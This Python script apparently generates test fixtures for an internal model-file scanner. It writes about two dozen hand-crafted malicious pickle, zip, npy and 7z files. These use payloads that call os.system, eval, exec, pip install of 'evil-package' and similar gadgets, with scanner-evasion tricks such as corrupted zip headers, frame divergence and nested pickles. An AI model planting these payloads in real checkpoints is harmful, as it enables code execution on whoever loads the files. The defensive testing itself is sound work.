#!/usr/bin/env python3
"""Craft one file per scanner bypass recipe in weight-formats.md section 4, for internal/scan's tests.

Python standard library only (pickle opcodes are written by hand with struct; nothing is ever
unpickled). Run: python3 make_bypasses.py. Files are written to bypass/ beside this script.
The payloads only name dangerous callables; they are never executed by anything here.
"""
import io
import os
import struct
import zipfile

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "bypass")


def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sg(module, name):  # STACK_GLOBAL of two literal strings
    return su(module) + su(name) + b"\x93"


def call1(callable_ops, arg_ops):  # callable(arg) via TUPLE1 + REDUCE
    return callable_ops + arg_ops + b"\x85R"


def p4(body):  # protocol 4 pickle
    return b"\x80\x04" + body + b"."


OS_SYSTEM_P4 = p4(call1(sg("os", "system"), su("echo pwned")))
OS_SYSTEM_P0 = b"cos\nsystem\n(S'echo pwned'\ntR."


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return bytearray(buf.getvalue())


def torch_zip(pickle_bytes, pkl_name="archive/data.pkl"):
    return zip_bytes([(pkl_name, pickle_bytes), ("archive/version", b"3\n")])


def set_flags(z, bit):
    # general-purpose flags: local header offset 6, central header offset 8
    i = 0
    while True:
        i = z.find(b"PK\x03\x04", i)
        if i < 0:
            break
        struct.pack_into("<H", z, i + 6, struct.unpack_from("<H", z, i + 6)[0] | bit)
        i += 4
    i = 0
    while True:
        i = z.find(b"PK\x01\x02", i)
        if i < 0:
            break
        struct.pack_into("<H", z, i + 8, struct.unpack_from("<H", z, i + 8)[0] | bit)
        i += 4
    return bytes(z)


def main():
    os.makedirs(HERE, exist_ok=True)
    # 1. non-pickle extension inside a zip; and the residual: a protocol-0 pickle has no PROTO byte.
    write("b01_zip_member_txt.zip", bytes(torch_zip(OS_SYSTEM_P4, "archive/data.txt")))
    write("b01_zip_member_txt_proto0.zip", bytes(zip_bytes([("notes.txt", OS_SYSTEM_P0)])))
    # 2. general-purpose flag bits on an unencrypted member.
    for bit in (0x1, 0x20, 0x40):
        write("b02_zip_flag_0x%x.zip" % bit, set_flags(torch_zip(OS_SYSTEM_P4), bit))
    # 3. local header name differs from the central directory's.
    z = torch_zip(OS_SYSTEM_P4)
    i = z.find(b"archive/data.pkl")
    z[i:i + 16] = b"archive/datap.kl"
    write("b03_zip_name_mismatch.zip", bytes(z))
    # 4. bad CRC: change the payload after the CRC was computed.
    z = torch_zip(OS_SYSTEM_P4)
    i = z.find(b"echo pwned")
    z[i:i + 10] = b"echo owned"
    write("b04_zip_bad_crc.zip", bytes(z))
    # 5. a plain pickle named like a checkpoint.
    write("b05_plain_pickle.bin", OS_SYSTEM_P4)
    # 6. legacy magic number produced by eval instead of a LONG1 literal.
    magic = b"\x80\x02" + b"c__builtin__\neval\n" + bu("0x1950A86A20F9469CFC6C") + b"\x85R."
    rest = b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02]." + b"\x80\x02" + OS_SYSTEM_P0 + b"\x80\x02N."
    write("b06_legacy_magic_via_reduce.pt", magic + rest)
    # 7. 7z wrapper (the scanner cannot inspect 7z) and a payload in a deliberately broken pickle.
    write("b07_7z_wrapper.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + OS_SYSTEM_P4)
    write("b07_payload_then_broken.pkl", b"\x80\x04" + call1(sg("os", "system"), su("id")) + b"X\xff\xff\xff\x7fbroken")
    # 8. broken pickle after the payload; and a valid payload followed by garbage.
    write("b08_broken_after_payload.pkl", b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('x')tRX.")
    write("b08_trailing_garbage.pkl", OS_SYSTEM_P4 + b"\n\n\t\t")
    # 9. STACK_GLOBAL operands from protocol-0 STRING opcodes, no PROTO.
    write("b09_stack_global_strings.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.")
    # 10. memo indirection with decoy strings right before STACK_GLOBAL.
    write("b10_memo_indirection.pkl",
          b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vid\ntR.")
    # 11. BUILD on an imported function, then calling what the mutated attribute returns.
    body = (sg("numpy", "size") + b"\x94" + b"N" + b"}" + su("shape") + sg("numpy", "__builtins__") + b"s" +
            b"\x86b" + b"0" + b"h\x00" + b"h\x00" + su("eval") + b"\x86R" + su("__import__('os').system('id')") + b"\x85R")
    write("b11_build_on_function.pkl", p4(body))
    # 12. OBJ whose result is thrown away.
    write("b12_obj_pop.pkl", b"\x80\x04(" + sg("smtplib", "SMTP") + su("127.0.0.1") + b"o0N.")
    # 13. FRAME boundary divergence; a frame inside a frame; a frame ending inside an opcode.
    hidden = b"cos\nsystem\n" + su("id") + b"\x85R0"
    divergence = (b"\x80\x05" + b"\x95" + struct.pack("<Q", 2) + b"N0" + b"\x95" + struct.pack("<Q", 2) + b"B" +
                  struct.pack("<I", len(hidden)) + hidden + b"N.")
    write("b13_frame_divergence.pkl", divergence)
    inner = su("a") + b"0N."
    write("b13_frame_in_frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 20) + b"\x95" + struct.pack("<Q", len(inner)) + inner)
    write("b13_frame_straddles_opcode.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + su("abcdef") + b"0N.")
    # 14. pip.main
    write("b14_pip_main.pkl", b"cpip\nmain\n(](Vinstall\nVevil-package\nltR.")
    # 15. pydoc.pipepager, venv.create, functools.partial(torch.load), torch._inductor compile_file
    write("b15_pydoc_pipepager.pkl", p4(sg("pydoc", "pipepager") + su("") + su("echo pwned") + b"\x86R"))
    write("b15_venv_create.pkl", p4(call1(sg("venv", "create"), su("/tmp/$(echo pwned)"))))
    write("b15_partial_torch_load.pkl", p4(sg("functools", "partial") + sg("torch.serialization", "load") + su("/tmp/evil.pt") + b"\x86R" + b")R"))
    write("b15_inductor_compile_file.pkl", p4(sg("torch._inductor.codecache", "compile_file") + su("") + su("") + b"(" + su("sh") + su("-c") + su("id") + b"l\x87R"))
    # 16. stdlib helpers that run commands
    write("b16_uuid_get_command_stdout.pkl", p4(call1(sg("uuid", "_get_command_stdout"), su("id"))))
    write("b16_imaplib_stream.pkl", p4(call1(sg("imaplib", "IMAP4_stream"), su("id"))))
    # 17. universal resolvers: importlib.import_module + inspect.getattr_static; pkgutil.resolve_name
    body = sg("inspect", "getattr_static") + call1(sg("importlib", "import_module"), su("os")) + su("system") + b"\x86R" + su("id") + b"\x85R"
    write("b17_importlib_getattr_static.pkl", p4(body))
    write("b17_pkgutil_resolve_name.pkl", p4(call1(call1(sg("pkgutil", "resolve_name"), su("os:system")), su("id"))))
    # 18. operator gadgets: methodcaller("system", "id")(pydoc.locate("os"))
    body = sg("_operator", "methodcaller") + su("system") + su("id") + b"\x86R" + call1(sg("pydoc", "locate"), su("os")) + b"\x85R"
    write("b18_methodcaller.pkl", p4(body))
    # 19. submodule of a denylisted module
    write("b19_asyncio_submodule.pkl", p4(call1(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), su("id"))))
    # 20. dotted names resolved through attributes
    write("b20_builtins_eval_call.pkl", b"\x80\x05" + call1(sg("builtins", "eval.__call__"), su("1+1"))[:-0 or None] + b".")
    write("b20_pathlib_os_system.pkl", p4(call1(sg("pathlib", "os.system"), su("id"))))
    # 21. nested pickles: pickle.loads(bytes) and torch.storage._load_from_bytes(bytes)
    inner = OS_SYSTEM_P4
    write("b21_pickle_loads_nested.pkl", p4(call1(sg("pickle", "loads"), b"C" + bytes([len(inner)]) + inner)))
    write("b21_load_from_bytes_nested.pkl", p4(call1(sg("torch.storage", "_load_from_bytes"), b"C" + bytes([len(inner)]) + inner)))
    # 22. code objects: types.CodeType and marshal.loads
    write("b22_types_codetype.pkl", p4(sg("types", "CodeType") + b"(K\x00K\x00" + b"t" + b"R"))
    write("b22_marshal_loads.pkl", p4(call1(sg("marshal", "loads"), b"C\x04\xe3\x00\x00\x00")))
    # 23. file and network side effects, and an object .npy that resolves a hostname.
    write("b23_logging_filehandler.pkl", p4(call1(sg("logging", "FileHandler"), su("evil.log"))))
    write("b23_smtplib.pkl", p4(call1(sg("smtplib", "SMTP"), su("127.0.0.1"))))
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    npy += b"\x80\x03" + sg("ssl", "get_server_certificate")[:-1].replace(b"\x8c", b"X\x00\x00\x00\x00", 0) + b""
    # protocol 3 has no STACK_GLOBAL: use GLOBAL as np.save does.
    npy = npy[: npy.index(b"\x80\x03")] + b"\x80\x03cssl\nget_server_certificate\nX\x0b\x00\x00\x00example.com\x85R."
    write("b23_object_array_dns.npy", npy)
    # 24. third-party and less known gadgets seen in the wild
    write("b24_mlflow_entry_point.pkl", p4(call1(sg("mlflow.projects.backend.local", "_run_entry_point"), su("id"))))
    write("b24_multiprocessing_spawnv.pkl", p4(call1(sg("multiprocessing.util", "spawnv_passfds"), su("/bin/sh"))))
    write("b24_pandas_read_csv.pkl", p4(call1(sg("pandas.io.parsers.readers", "read_csv"), su("http://example.com/x"))))
    write("b24_weakref_finalize.pkl", p4(call1(sg("weakref", "finalize"), su("x"))))
    # 25. GGUF chat template with Jinja sandbox escapes (Llama Drama); written by make_formats.py
    #     as gguf/bad_chat_template_ssti.gguf.


if __name__ == "__main__":
    main()
